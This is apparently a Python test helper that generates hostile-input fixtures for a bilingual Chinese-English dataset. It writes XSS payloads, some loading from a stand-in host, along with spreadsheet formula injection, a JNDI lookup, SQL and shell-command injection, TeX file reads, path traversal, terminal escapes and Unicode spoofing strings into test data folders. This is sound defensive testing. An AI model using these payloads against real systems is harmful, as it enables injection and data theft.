"""Over three hundred hostile strings of many kinds, and a data folder whose every text is one of them.

A script among them would set `window.pwned`; a reference would fetch from the host `evil.example`.
"""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator, Mapping, Sequence
from contextlib import suppress
from itertools import cycle, product
from pathlib import Path
from typing import Any

import yaml
from pydantic import ValidationError

from data.model.problems import FieldPath
from data.model.schema import PHRASE_LIMIT, TEXT_LIMIT, TITLE_LIMITS, Case, Document, Text
from data.rules import languages
from data.rules.rule import Facts
from tests.folders import copy_data

_SCRIPT = "window.pwned=1"
_HOST = "//evil.example"
_ELEMENTS = (
    f"<script>{_SCRIPT}</script>",
    f"<script src={_HOST}/x.js></script>",
    f"<img src=x onerror={_SCRIPT}>",
    f"<img src={_HOST}/x.png>",
    f"<svg onload={_SCRIPT}>",
    f"<svg><script>{_SCRIPT}</script></svg>",
    f"<svg><use href={_HOST}/x.svg#x></svg>",
    f"<svg><animate onbegin={_SCRIPT} attributeName=x dur=1s>",
    f"<iframe srcdoc='<script>parent.{_SCRIPT}</script>'></iframe>",
    f"<iframe src=javascript:parent.{_SCRIPT}></iframe>",
    f"<a href=javascript:{_SCRIPT}>x</a>",
    f"<details open ontoggle={_SCRIPT}>x</details>",
    f"<style>@import url({_HOST}/x.css)</style>",
    f"<link rel=stylesheet href={_HOST}/x.css>",
    f"<meta http-equiv=refresh content='0;url={_HOST}'>",
    f"<math><mtext><img src=x onerror={_SCRIPT}></mtext></math>",
    f"<form action={_HOST}><button>x</button></form>",
    f"<base href={_HOST}>",
    f"<b onmouseover={_SCRIPT} style='background:url({_HOST}/x)'>x</b>",
    "<!--",
)
_AROUND = ("{}", '">{}', "'>{}", "</title>{}", "]]>--></textarea></style></script>{}", "{{{{{}}}}}")
_COLOURS = ("red", "orange", "yellow", "green", "blue", "violet", "gray", "grey", "primary", "rainbow")
_KINDS: Mapping[str, tuple[str, ...]] = {
    "html": tuple(around.format(element) for around, element in product(_AROUND, _ELEMENTS)),
    "entities": (
        "&lt;b&gt;x", "&amp;amp;", "&#60;b&#62;", "&#x3c;b>", "&nbsp;", "&bogus;", "%3Cb%3E", "\\u003cb\\u003e",
        "\\x3cb>", "＜b＞x＜/b＞",
    ),
    "addresses": (
        "https://evil.example/x", "HTTP://EVIL.EXAMPLE", "www.evil.example", "//evil.example", "a@evil.example",
        "mailto:a@evil.example", "xmpp:a@evil.example", "javascript:alert(1)", "data:text/html,<script>1</script>",
        "file:///etc/passwd", "ftp://evil.example", "\\\\evil.example\\x", "<https://evil.example>", "http:evil",
    ),
    "markdown": (
        "# x", "#x", "- x", "+ x", "* x", "1. x", "2) x", "> x", "---", "***", "===", "    x", "\\", "\\*x\\*",
        "**x**", "__x__", "*x*", "_x_", "`x`", "```x```", "~~x~~", "~x~", "[x](https://evil.example)",
        "[x](javascript:window.pwned=1)", f"![x](https:{_HOST}/x.png)", f"[![x](https:{_HOST}/y.png)](x)",
        f"[x]: https:{_HOST}", "[x]", "[^1]", "[^1]: x", "- [ ] x", "| a | b |", "|---|---|", "==x==", "x^2^",
        "H~2~O", "x  ", "{#id .class}", "<!-- x -->", "*[x]: y", "![x][y]", "a\\", "1986. x",
    ),
    "directives": (
        *(f":{colour}{form}[x]" for colour, form in product(_COLOURS, ("", "-background", "-badge"))),
        ":material/home:", ":material_home:", ":streamlit:", ":smile:", ":+1:", ":a:", ":x: :y:", ":small[x]",
        ":shimmer[x]", ":help[x]", "::x[y]", ":::x", ":red[:material/home:]", ':color[x]{foreground="red"}',
        ":red[[x](https://evil.example)]", ":red[$x$]", ":material/", "::", ":[x]", "a:b:c", ":1:", "\\:red[x]", "->",
        "a -> b", "<- a", "a <-> b", "a -- b", ">= 3", "<= 3", "~= 3", "-> -> ->",
    ),
    "formulas of TeX": (
        "$x$", "$$x$$", "$x^2$ and $y$", "\\(x\\)", "\\[x\\]", "$\\href{javascript:alert(1)}{x}$",
        f"$\\includegraphics{{https:{_HOST}/x.png}}$", "$\\input{/etc/passwd}$", "$\\def\\x{\\x\\x}\\x$",
        "\\begin{x}", "$5 and $6", "\\$x\\$", "$`x`$", "\\frac{1}{0}", "%x", "\\write18{id}",
    ),
    "formulas of a spreadsheet": (
        "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example")',
        '=WEBSERVICE("https://evil.example")', "=IMPORTXML(1,2)", "=DDE(1,2,3)", "＝1+1", "＋1", "－1", "＠x", " =1+1",
        "\t=1+1", "'=1+1", '"=1+1', ";=1+1", ",=1+1", "%0A=1+1", "|=1", "=x\u00a0",
    ),
    "templates": (
        "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{% x %}", "{0}", "{view}", "{0.__class__}", "{", "}", "%s%n%x",
        "%(x)s", "%{x}", "%{hovertext}", "$table", "${table}", "$(id)", "`id`", f"${{jndi:ldap:{_HOST}/x}}",
        "'; DROP TABLE x;--", '" OR 1=1 --', "*)(uid=*", "|| id", "; id", "& id", "(a+)+$", ".*", "[", "\\d",
        "__proto__", "constructor", "NaN", "null", "None", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "~",
        "con.txt", "x.csv", "%00", "%2e%2e%2f", "%ff", "%", "!!python/object:x", "&a x", "*a", "<<: x", "? x",
        "- - x", "{a: b}", "@x",
    ),
    "terminals": (
        "\x1b[31mx", "\x1b]0;x\x07", "\x1b[2J", "\x1b]8;;https://evil.example\x07x", "\x9b31mx", "x\x08\x08y", "\x07",
        "\x1bc", "x\ry", "x\x7f",
    ),
    "directions": tuple(
        f"a{mark}txt.exe{end}"
        for mark, end in (
            ("\u202e", ""),
            ("\u202d", "\u202c"),
            ("\u202a", ""),
            ("\u202b", ""),
            ("\u2066", "\u2069"),
            ("\u2067", ""),
            ("\u2068", ""),
        )
    )
    + tuple(f"a{mark}b" for mark in "\u200e\u200f\u061c")
    + ("שלום (a) 1", "مرحبا [b] 2"),
    "invisible": tuple(
        f"a{mark}b"
        for mark in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u115f\u3164\u2800\u00a0\u3000\u2003\ufe0f\U000e0041"
    )
    + ("\u200b", "\u3164", "\u3000", " ", "", "\t", "\ufeff"),
    "control": tuple(f"a{chr(code)}b" for code in (0, 1, 9, 10, 11, 12, 13, 28, 31, 127, 128, 133, 159, 0x2028, 0x2029))
    + ("\0", "a\r\nSet-Cookie: x=1", "a\r\n\r\n<b>"),
    "broken": (
        "\ud800", "a\udfffb", "\udc00\ud800", "\ud83d", "\ufffd", "\ufffe", "\uffff", "\U0010ffff", "\ue000",
        "\U000f0000", "\U0001f3fb",
    ),
    "alphabets": (
        "ｆｕｌｌ", "ﬁ ﬂ", "İıſß", "é vs é", "Å Å", "аdmin", "Z̷̛̙a̸͎͛l̵̥̒g̴̻̚o̷̡̚", "👩‍👩‍👧‍👦", "🇨🇳", "𝕏𝔶", "①", "ǆ",
        "\u0e33\u0e47", "ꙮ", "﷽", "𒐫",
    ),
    "overlong": (
        "a" * 1001, "改" * 5000, "a " * 5000, "a" + "\u0301" * 2000, "[" * 2000, "(" * 1000 + ")" * 1000, "*" * 3000,
        "<b>" * 1000, ":red[" * 500, "$" * 999, "a" * 100_000, "/" * 9000,
    ),
}  # fmt: skip
"""The strings of each kind."""

HOSTILE: Mapping[str, str] = {
    f"{kind} {number}": text for kind, texts in _KINDS.items() for number, text in enumerate(texts)
}
"""Every string by its name, which is printable."""


def admitted() -> list[str]:
    """The strings that an English text of the dataset accepts."""
    return [text for text in HOSTILE.values() if _is_admitted(text)]


def _is_admitted(text: str) -> bool:
    both = in_both(text)
    with suppress(ValidationError):
        Text(**both)
        return not find_faulty_texts([(("summary", lang), part) for lang, part in both.items()])
    return False


def find_faulty_texts(texts: Iterable[tuple[FieldPath, str]]) -> set[FieldPath]:
    """The paths of the texts that break a rule about languages."""
    text = Text(zh="文件", en="Document")
    case = Case.model_construct()
    facts = Facts({}, {}, Document(title=text, issuer=text, date="2020"), frozenset(), {}, dict(texts), {}, ())
    rules = (languages.numbers_of_both_languages, languages.plain_text)
    return {path for check in rules for path, _ in check(case, facts)}


def _cut(text: str, length: int) -> str:
    """The beginning of a text, without a mark at its end that would close one at its beginning."""
    return text[:length].strip().rstrip("\"'") or "x"


def in_both(text: str) -> dict[str, str]:
    """A text in English, and in Chinese with a Chinese character before it, as the check demands."""
    return {"zh": f"文{text}"[:TEXT_LIMIT], "en": text}


STATED = {"text": "1，2，3，5，8，9，20%", "en": "1, 2, 3, 5, 8, 9 and 20%"}
"""A phrase that states every number of the figures below: a number that none states is refused."""


def case(number: int, texts: Iterator[str], year: int = 2020) -> dict[str, Any]:
    """A case with a metric of every grade, two of them of one measure; its texts are taken from `texts` in turn."""

    def both() -> dict[str, str]:
        return in_both(next(texts))

    def phrase() -> dict[str, str]:
        both = in_both(_cut(next(texts), PHRASE_LIMIT - 1))
        return {"text": both["zh"], "en": both["en"]}

    words, disputed = in_both(_cut(next(texts), PHRASE_LIMIT - 1)), phrase()
    told = {"text": words["zh"], "en": words["en"], "occurrence": 2}
    dated = {"period": {"end": year, "kind": "as_of"}}
    figures: Mapping[str, dict[str, Any]] = {
        "a": {
            "before": {"value": 1},
            "after": {"value": 2, **dated},
            "compared_with": {"label": both(), "end": {"value": 3}},
        },
        "b": {"after": {"value": 5, **dated}, "change": {"value": 2, "kind": "difference"}},
        "c": {
            "after": dated,
            "change": {"value": 20, "kind": "relative"},
            "caveats": [{"kind": "other", "note": both()}],
        },
        "d": {"after": dated, "change": {"value": 3, "kind": "difference"}},
        "e": {"after": {"value": 8, **dated}},
        "f": {"after": {"text": words, **dated}},
        "p": {"after": {"value": 9, **dated}, "status": "target"},
    }
    fixed, shared = {"role": "outcome", "unit": "item", "better": "higher"}, both()
    places = ("luoyang", "ruzhou", "luoyang", "luoyang", "luoyang", "luoyang", "henan")
    own = {"source": {"title": both(), "issuer": both(), "date": f"{year}-12-31"}}
    return {
        **({} if year == 2020 else own),
        "id": f"{year}-{number:02d}-hostile",
        "year": year,
        "number": number,
        "title": _title(texts),
        "submitted_by": both(),
        "places": ["luoyang", "ruzhou"],
        "mentions": ["henan"],
        "domains": ["finance"],
        "period": {"end": year, "kind": "as_of"},
        **{name: both() for name in ("summary", "problem", "result")},
        "actions": [both()],
        "events": [{"date": f"{year}-05-01", "what": both()}],
        "headlines": ["a"],
        "metrics": [
            {
                "id": name,
                "name": shared if name in "ab" else in_both(f"{next(texts)[:900]} {name}"),
                "subject": both(),
                "place": place,
                **fixed,
                "phrases": [disputed if name == "a" else phrase(), told, STATED],
                "section": both(),
                **figure,
            }
            for (name, figure), place in zip(figures.items(), places, strict=True)
        ],
        "conflicts": [
            {
                "id": "x",
                "kind": "contradiction",
                "metrics": ["a"],
                "phrases": [{**disputed, "occurrence": 1}, {**phrase(), "occurrence": 2}],
                "note": both(),
            }
        ],
    }


def _title(texts: Iterator[str]) -> dict[str, str]:
    return in_both(_cut(next(texts), TITLE_LIMITS["zh"] - 1))


def folder(path: Path, cases: Iterable[Mapping[str, Any]]) -> Path:
    """A data folder with these cases and the reference tables of the project."""
    copy_data(path, ())
    for found in cases:
        _write(path / "cases" / f"{found['id']}.yaml", found)
    return path


def hostile_folder(path: Path, texts: Sequence[str], cases: int) -> Path:
    """A data folder in which every name of a place, unit, domain and the document is hostile too.

    There is a domain for each text, and a city for each Markdown string and address, since their names are headings of
    a page.
    """
    dealt = cycle(texts)
    made = [case(number, dealt) for number in range(1, cases + 1)]
    titles = set[str]()
    for each in made:
        while each["title"]["en"] in titles:
            each["title"] = _title(dealt)
        titles.add(each["title"]["en"])
    folder(path, made)
    marked = [text for kind in ("markdown", "addresses") for text in _KINDS[kind] if text in texts]
    point = {"kind": "prefecture", "lon": 113.0, "lat": 34.0}
    further: Mapping[str, list[dict[str, Any]]] = {
        "domains": [{"id": f"field-{number}", "name": {"zh": text, "en": text}} for number, text in enumerate(texts)],
        "places": [
            {
                "id": f"city-{number}",
                "code": f"{412000 + number}",
                "name": {"zh": text, "en": text},
                "prefecture": f"city-{number}",
                **point,
            }
            for number, text in enumerate(marked)
        ],
        "units": [],
    }
    names = cycle(text for text in texts if text not in marked)
    for table, more in further.items():
        file = path / "reference" / f"{table}.yaml"
        entries = yaml.safe_load(file.read_text(encoding="utf-8"))
        named = ({"zh": _multiplier(entry) + next(names), "en": next(names)} for entry in entries)
        _write(file, [*({**entry, "name": name} for entry, name in zip(entries, named, strict=True)), *more])
    outlines = json.loads((path / "reference" / "henan.geojson").read_bytes())
    triangle = {"type": "Polygon", "coordinates": [[[113.0, 34.0], [113.0, 34.1], [113.1, 34.0], [113.0, 34.0]]]}
    outlines["features"] += [
        {"type": "Feature", "id": city["code"], "properties": {}, "geometry": triangle} for city in further["places"]
    ]
    _write(path / "reference" / "henan.geojson", outlines)
    population = yaml.safe_load((path / "reference" / "population.yaml").read_text(encoding="utf-8"))
    population["residents"] |= {city["code"]: 1 for city in further["places"]}
    source = {"date": "2021-07-09", "year": 2020}
    for table, document in (("source", source), ("population", population)):
        headed = {name: {"zh": next(dealt), "en": next(dealt)} for name in ("title", "issuer", "published_in")}
        _write(path / "reference" / f"{table}.yaml", document | headed)
    return path


def _multiplier(entry: Mapping[str, Any]) -> str:
    """What the name of a unit with a scale begins with, which it keeps."""
    return str(entry["name"]["zh"])[: 2 if entry["scale"] == 100_000 else 1] if "scale" in entry else ""


def _write(path: Path, value: Any) -> None:
    """Write YAML as JSON, which is part of it; what UTF-8 cannot encode becomes an escape."""
    path.write_bytes(json.dumps(value, ensure_ascii=False).encode("utf-8", "backslashreplace"))
